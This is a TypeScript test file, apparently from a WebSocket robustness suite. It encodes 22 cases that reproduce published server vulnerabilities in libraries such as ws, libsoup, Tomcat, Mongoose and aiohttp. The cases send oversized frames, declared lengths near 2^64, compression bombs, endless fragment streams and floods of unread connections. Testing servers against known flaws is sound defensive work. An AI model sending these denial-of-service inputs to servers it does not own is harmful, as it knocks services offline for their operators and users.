/** Public vulnerabilities of servers, 2024 to 2026: what was sent, as far as it was published. */
import type { Case, EnduranceCase, RequestCase } from "../../case.ts";
import { type Field, leading } from "../../opening/head-changes.ts";
import { OPCODE } from "../../wire/frame.ts";
import { dialog, failed } from "../builders.ts";
import { BUFFERS, FLOOD, GARBAGE, sending } from "../endurance/abuses.ts";
import {
  announcing,
  begin,
  endlessFragments,
  endlessMessage,
  fragments,
  outcome,
  wire,
} from "../endurance/floods.ts";
import { frame, kill } from "../steps.ts";
import { BOMB_OFFER, bombFrames, headOf } from "./bombs.ts";
import { knownIn } from "./known.ts";

const MIB = 2 ** 20;

const known = knownIn("27.1", "server", { bound: GARBAGE });

const manyFields: RequestCase = {
  kind: "request",
  only: "server",
  http: "1.1",
  id: "27.1.1",
  description: "CVE-2024-37890 (ws): 3,000 fields before those of the handshake.",
  rule: "livesOn",
  outcomes: [],
  dangerous: true,
  change: leading(...Array.from({ length: 3000 }, (_, i): Field => [`X-${i}`, "x"])),
};

/** So many WebSockets on which the same is sent, and which then stay as they are. */
const held =
  (count: number, bytes: () => Buffer, unread = false): EnduranceCase["abuse"] =>
  async (first, { server }) => {
    const connections = [first];
    while (connections.length < count) connections.push(await server!.open());
    for (const connection of connections) {
      if (unread) connection.pause(true);
      connection.send(bytes());
    }
    await first.until(() => false, 1000);
    return `${count} connections were left as they were.`;
  };

const close = () => wire(true, OPCODE.close, Buffer.from([0x03, 0xe8]));
const reserved = () => wire(true, 3, "x");

const draft = (host: string, path: string) =>
  [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}`,
    "Upgrade: WebSocket",
    "Connection: Upgrade",
    `Origin: http://${host}`,
    "\r\n",
  ].join("\r\n");

/** Cases 27.1.1 to 27.1.22. */
export const OF_SERVERS: readonly Case[] = [
  manyFields,
  known(
    2,
    "CVE-2024-52532 (libsoup)",
    "a frame that breaks the protocol, and 16 MiB right behind it",
    sending(() => Buffer.concat([reserved(), Buffer.alloc(16 * MIB, 0xff)])),
  ),
  known(
    3,
    "CVE-2024-23672 (Tomcat)",
    "200 WebSockets that are failed, and whose client answers no Close and ends no TCP",
    held(200, reserved),
  ),
  known(
    4,
    "CVE-2025-32049 (libsoup)",
    "a message of 256 MiB where memory is watched, else of 32 MiB, in one frame",
    (c, { watched }) => {
      const size = watched ? FLOOD : 32 * MIB;
      const chunk = Buffer.alloc(MIB, "x");
      c.send(headOf(OPCODE.binary, size));
      for (let sent = 0; sent < size; sent += MIB) c.send(chunk);
      return outcome(c);
    },
    { bound: BUFFERS },
  ),
  known(
    5,
    "CVE-2025-51495 (Mongoose)",
    "a length of 2^64 - 10, to which the head cannot be added",
    sending(() => announcing(true, (1n << 64n) - 10n, "x".repeat(64))),
  ),
  known(
    6,
    "CVE-2026-0716 (libsoup)",
    "a length of 2^64 - 1, and 1 KiB of it",
    sending(() => announcing(true, (1n << 64n) - 1n, "x".repeat(1024))),
  ),
  known(
    7,
    "CVE-2026-50161 (libre)",
    "a length of 2^64 - 4, to which the masking key cannot be added",
    sending(() => announcing(true, (1n << 64n) - 4n, "x".repeat(64))),
  ),
  known(
    8,
    "CVE-2026-15709 (libsoup)",
    "256 KiB that inflate to 256 MiB",
    sending(() => bombFrames(true, 256)),
    { bound: BUFFERS, deflate: BOMB_OFFER },
  ),
  known(
    9,
    "CVE-2026-54464 (websocket-driver for Ruby)",
    "64 MiB in 64 compressed fragments, each shorter than any limit",
    sending(() => bombFrames(true, 64, 64)),
    { bound: BUFFERS, deflate: BOMB_OFFER },
  ),
  known(
    10,
    "CVE-2026-134813 (websocket-driver for Node.js)",
    "ten messages of 16 MiB each, compressed, one behind the other",
    sending(() => Buffer.concat(Array.from({ length: 10 }, () => bombFrames(true, 16)))),
    { bound: BUFFERS, deflate: BOMB_OFFER },
  ),
  known(
    11,
    "CVE-2026-15711 (libsoup)",
    "a Ping of 1 MiB",
    sending(() => wire(true, OPCODE.ping, Buffer.alloc(MIB, "x"))),
  ),
  known(12, "CVE-2026-48779 (ws)", "a message in a million fragments of one byte", (c) =>
    fragments(c, true, 1_000_000),
  ),
  known(
    13,
    "CVE-2026-62389 (ws)",
    "20 messages of 16,000 fragments that never end",
    held(20, () => endlessFragments(true, 16_000, "x")),
  ),
  known(
    14,
    "CVE-2026-63495 (libevent)",
    "fragments of 64 KiB of a message that never ends",
    (c, { watched }) => endlessMessage(c, true, watched ? FLOOD : 64 * MIB),
    { bound: BUFFERS },
  ),
  known(
    15,
    "GHSA-pf94-94m9-536p (Bandit)",
    "fragments of 1 MiB of a message that never ends",
    (c, { watched }) => {
      const part = wire(true, OPCODE.continuation, Buffer.alloc(MIB, "x"), false);
      c.send(begin(true));
      for (let i = 0; i < (watched ? 256 : 64); i++) c.send(part);
      return outcome(c);
    },
    { bound: BUFFERS },
  ),
  known(
    16,
    "CVE-2026-54274 (aiohttp)",
    "all but the last byte of a frame of 256 MiB where memory is watched, else of 64 MiB",
    (c, { watched }) => {
      const size = watched ? FLOOD : 64 * MIB;
      const chunk = Buffer.alloc(MIB, "x");
      c.send(headOf(OPCODE.binary, size + 1));
      for (let sent = 0; sent < size; sent += MIB) c.send(chunk);
      return outcome(c);
    },
    { bound: BUFFERS },
  ),
  known(
    17,
    "CVE-2026-123817 (aiohttp)",
    "a frame of 20,000 bytes in 20,000 segments, but for the last",
    (c) => {
      c.send(headOf(OPCODE.binary, 20_001));
      c.send(Buffer.alloc(20_000, "x"), { chop: 1 });
      return outcome(c);
    },
  ),
  known(
    18,
    "CVE-2026-77791 (Tomcat)",
    "50 WebSockets that are closed, whose client never reads",
    held(50, close, true),
  ),
  known(
    19,
    "CVE-2026-79677 (Tomcat)",
    "20 WebSockets that are sent 1 MiB to echo, whose client never reads",
    held(20, () => wire(true, OPCODE.binary, Buffer.alloc(MIB, "x")), true),
    { bound: BUFFERS },
  ),
  dialog({
    id: "27.1.20",
    only: "server",
    description: "CVE-2026-106024 (Mongoose): a continuation of nothing that ends a message.",
    rule: "fragmentOrder",
    dangerous: true,
    outcomes: failed(),
    steps: () => [frame(OPCODE.continuation, "spoofed"), kill()],
  }),
  known(
    21,
    "CVE-2026-54463, CVE-2026-54466 (websocket-driver)",
    "the handshake of draft 75, and a length that never ends",
    async (_none, { server }) => {
      const connection = await server!.connect();
      const [line = "", host = ""] = server!.request.split("\r\n");
      connection.send(Buffer.from(draft(host.slice(6), line.split(" ")[1]!)));
      const answer = await connection.head(3000);
      if (answer === undefined) return "The draft was not answered.";
      connection.send(Buffer.alloc(MIB, 0xff));
      const became = await outcome(connection);
      return `The draft was answered "${answer.start}". ${became}`;
    },
    { bare: true, http: "1.1" },
  ),
  known(
    22,
    "CVE-2026-54465 (websocket-driver for Ruby)",
    "32 MiB of fields, and no end of the head",
    async (_none, { server }) => {
      const connection = await server!.connect();
      connection.send(Buffer.from(server!.request.slice(0, -2)));
      const fields = Buffer.from("X-Field: x\r\n".repeat(87_382));
      for (let i = 0; i < 32; i++) connection.send(fields);
      const became = await outcome(connection);
      return became;
    },
    { bare: true, http: "1.1" },
  ),
];
